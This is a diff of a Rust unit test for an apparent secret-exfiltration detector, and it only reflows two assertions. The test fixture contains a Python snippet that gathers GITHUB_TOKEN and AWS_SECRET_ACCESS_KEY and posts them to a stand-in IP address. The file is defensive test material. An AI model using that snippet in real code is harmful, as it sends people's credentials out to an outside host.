@@ -1311,8 +1311,16 @@ fn a_workflow_that_sends_every_secret_built_from_parts() {
 #[test]
 fn secrets_collected_by_a_comprehension_over_credential_names() {
     let src = "import os, json, urllib.request\nNAMES = ('GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY')\nenv = {k: os.environ[k] for k in NAMES if k in os.environ}\nurllib.request.urlopen('http://192.0.2.4/c', data=json.dumps(env).encode())\n";
-    assert!(kinds(src).contains(&K::SecretExfiltration), "{:?}", details(src));
+    assert!(
+        kinds(src).contains(&K::SecretExfiltration),
+        "{:?}",
+        details(src)
+    );
     // The environment of ordinary settings, collected and sent: not secrets.
     let benign = "import os, json, urllib.request\nNAMES = ('LANG', 'TZ')\nenv = {k: os.environ[k] for k in NAMES if k in os.environ}\nurllib.request.urlopen('http://192.0.2.4/c', data=json.dumps(env).encode())\n";
-    assert!(!kinds(benign).contains(&K::SecretExfiltration), "{:?}", details(benign));
+    assert!(
+        !kinds(benign).contains(&K::SecretExfiltration),
+        "{:?}",
+        details(benign)
+    );
 }
